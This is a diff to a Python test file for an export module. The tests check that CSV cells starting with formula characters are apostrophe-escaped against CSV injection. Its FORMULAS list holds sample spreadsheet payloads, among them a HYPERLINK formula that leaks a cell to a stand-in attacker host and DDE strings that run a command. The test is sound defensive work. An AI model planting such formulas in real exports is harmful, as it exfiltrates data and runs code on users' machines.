@@ -70,3 +70,42 @@ def test_json_export_is_the_scan_and_its_tasks() -> None:
     assert body == {"scan": SCAN.to_dict(), "tasks": [t.to_dict() for t in tasks()]}
     assert "ünïcödé" in text
     assert json.loads(export_json(SCAN, [])) == {"scan": SCAN.to_dict(), "tasks": []}
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted_with_an_apostrophe() -> None:
+    """Issue #16 finding 9 (OWASP "CSV Injection"): a content, reason or username starting
+    with = + - @ TAB or CR is exported with a leading ' so a spreadsheet shows it as text."""
+    for formula in FORMULAS:
+        task = Task("t1", "s1", "w1", "-dash-", formula, TaskStatus.PENDING, T0, 1, 1).decided(
+            TaskStatus.REFUSED, reason=formula, by="a1", at=at(5), seq=2
+        )
+        row = next(csv.DictReader(io.StringIO(export_csv([task]), newline="")))
+        assert row["content"] == "'" + formula
+        assert row["reason"] == "'" + formula
+        assert row["worker_username"] == "'-dash-"
+        assert (row["id"], row["status"], row["created_at"]) == (
+            "t1",
+            "refused",
+            "2026-11-28T01:02:03.456Z",
+        )
+
+
+def test_csv_leaves_harmless_text_and_json_leaves_everything_as_it_is() -> None:
+    """Text that merely contains those characters is exported unchanged, and the JSON export
+    carries every value exactly as stored."""
+    harmless = "a=1, b+2, c-3 @home\t'quoted'"
+    task = Task("t1", "s1", "w1", "alice", harmless, TaskStatus.PENDING, T0, 1, 1)
+    row = next(csv.DictReader(io.StringIO(export_csv([task]), newline="")))
+    assert row["content"] == harmless
+    risky = Task("t2", "s1", "w1", "-dash-", FORMULAS[0], TaskStatus.PENDING, T0, 2, 2)
+    assert json.loads(export_json(SCAN, [risky]))["tasks"][0] == risky.to_dict()
